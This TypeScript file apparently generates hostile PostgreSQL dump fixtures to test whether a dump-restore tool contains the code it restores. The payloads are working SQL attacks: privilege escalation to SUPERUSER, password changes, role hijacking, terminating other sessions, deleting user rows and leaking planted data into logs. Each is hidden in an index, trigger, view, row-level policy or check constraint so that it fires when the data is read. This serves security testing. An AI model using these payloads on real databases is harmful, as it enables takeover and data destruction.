import type { Attempt } from './hostile.ts';

/** The name of a role that a hostile dump chooses, should it come to set a password. */
export const chosenWord = 'word-of-the-dump';
/** What stands in a row of each dump and may come into no log. */
export const planted = 'Marjorie Planted';

type Wish = readonly [name: string, statements: readonly string[]];

// `%1$I` is the role whose session runs it. What lifts a session's own limits comes before each (lift).
const wishes: readonly Wish[] = [
  ['a password for whoever reads', [`ALTER ROLE %1$I PASSWORD '${chosenWord}'`]],
  ['a password for the owner', [`ALTER ROLE CURRENT_USER LOGIN PASSWORD '${chosenWord}'`]],
  [
    'the password of the install’s user',
    ['SET ROLE NONE', 'SET ROLE hostile', `ALTER ROLE hostile PASSWORD '${chosenWord}'`],
  ],
  [
    'a role that may write from now on',
    ['ALTER ROLE %1$I SET default_transaction_read_only = off', 'ALTER ROLE %1$I RESET ALL'],
  ],
  [
    'settings for the databases of others',
    [
      `DO $d$ DECLARE d text; BEGIN FOR d IN SELECT datname FROM pg_database LOOP
         EXECUTE format('ALTER ROLE %I IN DATABASE %I SET local_preload_libraries = ''nope''', session_user, d); END LOOP; END $d$`,
    ],
  ],
  [
    'attributes',
    ['ALTER ROLE %1$I SUPERUSER', 'ALTER ROLE %1$I CREATEROLE BYPASSRLS', 'ALTER ROLE %1$I CREATEDB'],
  ],
  [
    'a member of its own',
    ['GRANT %1$I TO hostile', 'GRANT rp_read_hostile TO hostile', 'GRANT hostile TO rp_read_control'],
  ],
  [
    'more roles to be in',
    ['GRANT pg_read_all_data TO hostile', 'GRANT pg_write_all_data TO %1$I', 'GRANT rp_read_control TO %1$I'],
  ],
  ['another session’s role', ['SET ROLE rp_read_control', 'SET SESSION AUTHORIZATION rp_admin']],
  [
    'the other install’s rows',
    ['CREATE DATABASE taken TEMPLATE control', 'ALTER DATABASE control OWNER TO CURRENT_USER'],
  ],
  [
    'a way in for everybody',
    ['GRANT CONNECT ON DATABASE control TO PUBLIC', 'GRANT CONNECT ON DATABASE postgres TO PUBLIC'],
  ],
  [
    'rows in the log',
    [
      `DO $d$ BEGIN RAISE LOG 'a row: ${planted}'; END $d$`,
      'SET log_min_messages = debug1',
      `DO $d$ BEGIN RAISE LOG 'a row: ${planted}'; END $d$`,
    ],
  ],
  [
    'sessions of others ended',
    ['SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()'],
  ],
  [
    'what stays in the live',
    [
      'SELECT lo_create(4711)',
      'CREATE TABLE public.taken ()',
      'ALTER TABLE public.users ADD COLUMN taken int',
      'DELETE FROM public.users',
    ],
  ],
];

// Only reading may leave nothing: whoever becomes a user writes, and triggers write with it.
const onlyReading = new Set(['what stays in the live']);

type Way = readonly [name: string, sql: string];

const ways: readonly Way[] = [
  ['by what the planner evaluates', 'CREATE INDEX planned ON public.users (email) WHERE public.evil_of(1)'],
  ['by an indexed expression', 'CREATE INDEX indexed ON public.users (public.evil_text(email))'],
  [
    'by a trigger',
    'CREATE TRIGGER fired BEFORE UPDATE ON public.users FOR EACH ROW EXECUTE FUNCTION public.evil_trigger()',
  ],
  ['by a view', 'CREATE VIEW public.seen AS SELECT id, public.evil_of(id) AS x FROM public.users'],
  [
    'by a policy',
    'ALTER TABLE public.users ENABLE ROW LEVEL SECURITY; ALTER TABLE public.users FORCE ROW LEVEL SECURITY; CREATE POLICY checked ON public.users USING (public.evil_of(id))',
  ],
  ['by a check', 'ALTER TABLE public.users ADD CONSTRAINT checked CHECK (public.evil_of(id))'],
];

/**
 * Dumps whose code acts when what was restored is read or used. Each holds users, one of whom can be become by the
 * recipe `password`; the install is to be called `hostile`, and there is to be another one called `control`.
 */
export function listAfterwards(): Attempt[] {
  return wishes.flatMap(([wish, statements]) =>
    ways.map(([way, sql]) => ({
      name: `${wish}, ${way}`,
      sql: dumpOf(statements, sql, onlyReading.has(wish)),
    })),
  );
}

function dumpOf(statements: readonly string[], way: string, onlyReaders: boolean): string {
  const list = statements.map((statement) => `$w$${statement}$w$`).join(', ');
  return `
CREATE FUNCTION public.evil() RETURNS void LANGUAGE plpgsql VOLATILE AS $evil$
DECLARE wish text;
BEGIN
  IF ${onlyReaders} AND session_user NOT LIKE 'rp\\_read%' THEN RETURN; END IF;
  PERFORM set_config('default_transaction_read_only', 'off', false), set_config('statement_timeout', '0', false);
  FOREACH wish IN ARRAY ARRAY['SET transaction_read_only = off', 'SET TRANSACTION READ WRITE', ${list}] LOOP
    BEGIN
      EXECUTE CASE WHEN wish LIKE 'DO %' THEN wish ELSE format(wish, session_user) END;
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
  END LOOP;
END $evil$;
CREATE FUNCTION public.evil_of(int) RETURNS boolean LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM public.evil(); RETURN true; END $$;
CREATE FUNCTION public.evil_text(x text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM public.evil(); RETURN x; END $$;
CREATE FUNCTION public.evil_trigger() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM public.evil(); RETURN NEW; END $$;
CREATE TABLE public.users (id int PRIMARY KEY, email text, password text, name text);
INSERT INTO public.users VALUES (1, 'a@example.com', 'x', '${planted}'), (2, 'b@example.com', 'y', 'B');
${way};
`;
}
